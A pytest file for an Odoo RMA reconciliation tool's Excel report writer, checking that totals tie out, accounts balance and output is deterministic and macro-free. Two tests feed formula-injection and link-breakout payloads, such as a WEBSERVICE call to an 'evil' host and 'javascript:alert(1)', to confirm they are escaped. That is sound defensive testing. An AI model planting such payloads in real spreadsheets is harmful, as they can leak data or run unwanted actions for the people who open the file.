"""The accountant's workbook: its sums are formulas over the rows, what it shows is what they come to, text stays text."""

import hashlib
import re
import subprocess
import sys
import zipfile
from collections import defaultdict
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from office.workbook import Opened, month_of
from office.year import Lists, reconciled, year

from odoo_rma.mappings.drift import Area, Drift, DriftKind, LedgerRow, Link
from odoo_rma.mappings.drift.result import Reconciliation
from odoo_rma.mappings.money import ZERO, Decimal
from odoo_rma.mappings.ownership import Side
from odoo_rma.sync.reports.file import NotWritten
from odoo_rma.sync.reports.xlsx import SHEETS, write_xlsx

CENT = Decimal("0.01")


@pytest.fixture(scope="module")
def book(tmp_path_factory: pytest.TempPathFactory) -> Opened:
    """The workbook of an invented year."""
    path = tmp_path_factory.mktemp("book") / "year.xlsx"
    write_xlsx(year(), path)
    return Opened(path)


def drift(**changes: object) -> Drift:
    given = Drift(
        Area.LEDGER, DriftKind.AMOUNT, "shop", "r-1", "R-1", "refund F1", "differs", Side.RMA, "USD"
    )
    return replace(given, **changes)  # type: ignore[arg-type]


def money(number: object) -> Decimal:
    return Decimal(str(number or 0)).quantize(CENT)


def test_the_sheets_stand_in_the_order_in_which_they_are_read(book: Opened) -> None:
    assert tuple(book.written.sheetnames) == SHEETS


def test_source_and_listed_differences_make_up_odoo_for_every_measure(book: Opened) -> None:
    lines = book.table("Summary", "Source + differences = Odoo")
    assert [line["Measure"] for line in lines] == ["units", "EUR", "JPY", "USD"]
    for line in lines:
        kinds = [
            k for k in line if k in {"missing in Odoo", "quantity", "amount", "duplicate", "paid, not posted"}
        ]
        assert len(kinds) == 5
        listed = sum((money(line[k]) for k in kinds), ZERO)
        assert money(line["Source says"]) + listed == money(line["Odoo says"])
        assert (money(line["Unexplained"]), line["Check"]) == (ZERO, "ties out")
    assert book.sheet("Summary")["A2"].value == "Every total ties out"


def test_the_equation_is_calculated_from_the_listed_differences(book: Opened) -> None:
    summary = book.written["Summary"]
    equation = [str(cell.value) for cell in summary[6] if cell.data_type == "f"]
    last = len(book.rows("Differences")) + 1
    assert all(f"'Differences'!$J$2:$J${last}" in f for f in equation[:5])
    assert re.fullmatch(r"=ROUND\(J6-D6-SUM\(E6:I6\),3\)", equation[5])


def with_a_cent_lost(period: str) -> Reconciliation:
    """The year, with a cent less in Odoo than anything explains, in one equation."""
    found = year()
    lost = [
        replace(e, erp_total=e.erp_total - CENT) if (e.measure, e.period) == ("USD", period) else e
        for e in found.equations
    ]
    return replace(found, equations=tuple(lost))


@pytest.mark.parametrize(
    ("period", "sheet", "title"),
    [
        ("", "Summary", "Source + differences = Odoo"),
        ("2026-03", "Periods", "Source + differences = Odoo, by month"),
    ],
)
def test_a_total_that_nothing_explains_is_shouted(
    tmp_path: Path, period: str, sheet: str, title: str
) -> None:
    write_xlsx(with_a_cent_lost(period), tmp_path / "x.xlsx")
    opened = Opened(tmp_path / "x.xlsx")
    lines = opened.table(sheet, title)
    wrong = [(r["Measure"], money(r["Unexplained"]), r["Check"]) for r in lines if r["Check"] != "ties out"]
    assert wrong == [("USD", -CENT, "UNEXPLAINED")]
    assert len(lines) > 1
    assert str(opened.sheet("Summary")["A2"].value).startswith("NOT PROVEN")


def test_what_a_person_has_decided_counts_in_the_sums_and_is_no_finding(tmp_path: Path) -> None:
    lists = year().rows
    assert isinstance(lists, Lists)
    decided = [replace(d, settled="2026-10-02: goodwill") for d in lists.differences]
    write_xlsx(reconciled(replace(lists, differences=decided)), tmp_path / "x.xlsx")
    opened = Opened(tmp_path / "x.xlsx")
    assert opened.sheet("Summary")["A2"].value == "Every total ties out"
    last = opened.table("Summary", "Differences by kind")[-1]
    assert (last["Kind"], last["Open"], last["Decided"]) == ("All", 0, len(decided))
    assert {r["Decided"] for r in opened.rows("Differences")} == {"2026-10-02: goodwill"}


def test_the_months_are_sums_over_the_ledger(book: Opened) -> None:
    sums: dict[tuple[str, str], Decimal] = defaultdict(lambda: ZERO)
    for row in book.rows("Ledger"):
        sums[month_of(row["Period"]), row["Currency"]] += money(row["Credited"])
    lines = [r for r in book.rows("Periods") if r["Currency"]]
    months = [
        r for r in lines if r["Currency"] in ("USD", "EUR", "JPY") and r["Period"] not in ("Total", "Ledger")
    ]
    assert {(month_of(r["Period"]), r["Currency"]): money(r["Credited"]) for r in months} == sums
    formulas = [f for s, c, f, _ in book.formulas() if s == "Periods" and "SUMIFS" in f and "'Ledger'" in f]
    assert len(formulas) == len(months) * 10


def test_every_month_of_the_accounts_balances(book: Opened) -> None:
    rows = book.rows("Accounts", head=2)
    assert [r["Account"] for r in rows] == ["121000", "251000", "400000", "Total", "Check"]
    assert {v for k, v in rows[-1].items() if k not in ("Account", "None")} == {"balanced"}
    entries = year().rows.ledger()
    owed = sum((r.accounts.get("121000", ZERO) for r in entries), ZERO)
    assert money(rows[0]["All months"]) == owed < 0


def test_accounts_that_do_not_balance_are_shouted(tmp_path: Path) -> None:
    lists = Lists(ledgers=[replace(next(year().rows.ledger()), accounts={"400000": Decimal(5)})])
    write_xlsx(reconciled(lists), tmp_path / "x.xlsx")
    assert Opened(tmp_path / "x.xlsx").rows("Accounts", head=2)[-1]["All months"] == "NOT BALANCED"


def test_each_difference_has_both_values_an_age_a_repair_or_a_way_out_and_links(book: Opened) -> None:
    rows = book.rows("Differences")
    assert len(rows) == len(list(year().rows.drifts()))
    for row in rows:
        assert row["Source says"]
        assert row["Odoo says"]
        assert row["Proposed repair"] or row["Way out"]
        assert row["Age in days"] >= 0
    links = {f for s, _, f, _ in book.formulas() if s == "Differences"}
    assert '=HYPERLINK("https://shop.example.com/returns/R-1014","R-1014")' in links
    assert any(f.startswith('=HYPERLINK("https://erp.example.com/odoo/documents/RINV-') for f in links)


def test_the_workbook_says_where_it_comes_from(book: Opened) -> None:
    texts = {r[0]: r[1] for r in book.sheet("Summary").iter_rows(max_col=2, values_only=True) if r[0]}
    assert texts["Company"] == "Northwind Outdoor Ltd"
    assert texts["Read as"] == "returns@example.com"
    assert texts["Ended"] == "2026-11-02 06:30:12 UTC"
    assert str(texts["Made by"]).startswith("odoo-rma ")
    assert texts["sources.shop.credit_note_on"] == "refund"


def test_lists_can_be_filtered_and_keep_their_headings_in_sight(book: Opened) -> None:
    for name in ("Differences", "Ledger", "Inventory", "Stock on hand"):
        sheet = book.written[name]
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == sheet.dimensions


def test_amounts_are_shown_as_their_currency_is_written(book: Opened) -> None:
    shown = {}
    for row in book.written["Ledger"].iter_rows(min_row=2):
        shown[row[4].value] = row[6].number_format.split(";")[0]
    assert shown == {"USD": "#,##0.00", "EUR": "#,##0.00", "JPY": "#,##0"}


@pytest.mark.parametrize(
    "text", ["=1+1", "+49 30 1234", "-2", "@SUM(A1)", '=HYPERLINK("http://evil")', "\t=1", "＝1+1"]
)
def test_foreign_text_is_never_a_formula(tmp_path: Path, text: str) -> None:
    hostile = drift(label=text, subject=text, message=text, rma_value=text, way_out=text)
    write_xlsx(reconciled(Lists(differences=[hostile])), tmp_path / "x.xlsx")
    opened = Opened(tmp_path / "x.xlsx")
    row = opened.rows("Differences")[0]
    assert {row[c] for c in ("RMA", "Subject", "What differs", "Source says")} == {text.replace("\t", "·")}
    assert not [f for s, _, f, _ in opened.formulas() if s == "Differences"]
    if not text.startswith("\t"):
        assert opened.written["Differences"]["D2"].quotePrefix  # also after somebody edits the cell


def test_a_link_cannot_break_out_of_its_formula(tmp_path: Path) -> None:
    links = (
        Link('R"&WEBSERVICE("http://evil")&"', "https://erp.example.com/x"),
        Link("R-2", 'https://erp.example.com/"&WEBSERVICE("http://evil")&"'),
        Link("R-3", "javascript:alert(1)"),
    )
    write_xlsx(reconciled(Lists(differences=[drift(erp_links=links)])), tmp_path / "x.xlsx")
    opened = Opened(tmp_path / "x.xlsx")
    formulas = [f for s, _, f, _ in opened.formulas() if s == "Differences"]
    assert formulas == [
        '=HYPERLINK("https://erp.example.com/x","R""&WEBSERVICE"&CHAR(40)&"""http://evil"")&""")',
        '=HYPERLINK("https://erp.example.com/%22&WEBSERVICE%28%22http://evil%22%29&%22","R-2")',
    ]
    assert opened.rows("Differences")[0]["In Odoo (3)"] == "R-3"


def test_text_that_no_cell_can_hold_is_cut_and_said_to_be(tmp_path: Path) -> None:
    odd = drift(message="x" * 40_000, subject="a\x00b\x1b[31m\ud800\u202e")
    write_xlsx(reconciled(Lists(differences=[odd])), tmp_path / "x.xlsx")
    row = Opened(tmp_path / "x.xlsx").rows("Differences")[0]
    assert row["What differs"].endswith("… (cut)")
    assert row["Subject"] == "a·b·[31m··"


def test_a_list_longer_than_a_sheet_goes_on_in_the_next_and_is_still_summed_up(tmp_path: Path) -> None:
    found = year()
    write_xlsx(found, tmp_path / "x.xlsx", most=150)
    opened = Opened(tmp_path / "x.xlsx")
    assert [n for n in opened.written.sheetnames if n.startswith("Ledger")] == [
        "Ledger",
        "Ledger (2)",
        "Ledger (3)",
    ]
    formula = next(f for s, _, f, _ in opened.formulas() if s == "Periods" and "SUMIFS" in f)
    assert formula.count("SUMIFS") == 3
    rows = sum(len(opened.rows(n)) for n in opened.written.sheetnames if n.startswith("Ledger"))
    assert rows == len(list(found.rows.ledger()))


def test_nothing_to_report_is_a_workbook_too(tmp_path: Path) -> None:
    write_xlsx(reconciled(Lists()), tmp_path / "x.xlsx")
    opened = Opened(tmp_path / "x.xlsx")
    assert opened.sheet("Summary")["A2"].value == "Every total ties out"
    assert opened.rows("Differences") == []


def test_the_same_reconciliation_makes_the_same_file(tmp_path: Path) -> None:
    prints = set()
    for name in ("a.xlsx", "b.xlsx"):
        write_xlsx(year(), tmp_path / name)
        prints.add(hashlib.sha256((tmp_path / name).read_bytes()).hexdigest())
    assert len(prints) == 1


def test_there_is_no_macro_and_nothing_from_elsewhere_in_it(tmp_path: Path) -> None:
    write_xlsx(year(), tmp_path / "x.xlsx")
    names = zipfile.ZipFile(tmp_path / "x.xlsx").namelist()
    assert not [n for n in names if "vba" in n.lower() or "external" in n.lower() or n.endswith(".bin")]


class _Torn(Lists):
    """Lists whose reading fails in the middle."""

    def ledger(self) -> Iterator[LedgerRow]:
        yield from list(year().rows.ledger())[:5]
        raise RuntimeError("the disk is gone")


def test_a_report_that_fails_leaves_the_old_one_and_nothing_else(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    path.write_text("the old one")
    with pytest.raises(RuntimeError):
        write_xlsx(reconciled_torn(), path)
    assert [p.name for p in tmp_path.iterdir()] == ["x.xlsx"]
    assert path.read_text() == "the old one"


def reconciled_torn() -> Reconciliation:
    return replace(year(), rows=_Torn())


def test_a_folder_that_is_a_file_is_said_in_words(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(NotWritten, match=r"x\.xlsx cannot be written"):
        write_xlsx(year(), tmp_path / "file" / "x.xlsx")


PEAK = """
import sys, resource
sys.path.insert(0, "tests")
from pathlib import Path
from office.long import many
from odoo_rma.sync.reports.xlsx import write_xlsx
write_xlsx(many(int(sys.argv[1])), Path(sys.argv[2]))
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
"""


def peak(rows: int, path: Path) -> float:
    """Megabytes that a process needs to write so many rows."""
    root = Path(__file__).parents[2]
    command = [sys.executable, "-c", PEAK, str(rows), str(path)]
    done = subprocess.run(command, cwd=root, check=True, capture_output=True, text=True)
    return int(done.stdout) / 1024


def test_memory_stays_flat_however_many_rows_there_are(tmp_path: Path) -> None:
    few, many = peak(100, tmp_path / "a.xlsx"), peak(3_000, tmp_path / "b.xlsx")
    assert many - few < 10, f"{few:.0f} MB for 100 rows, {many:.0f} MB for 3,000"
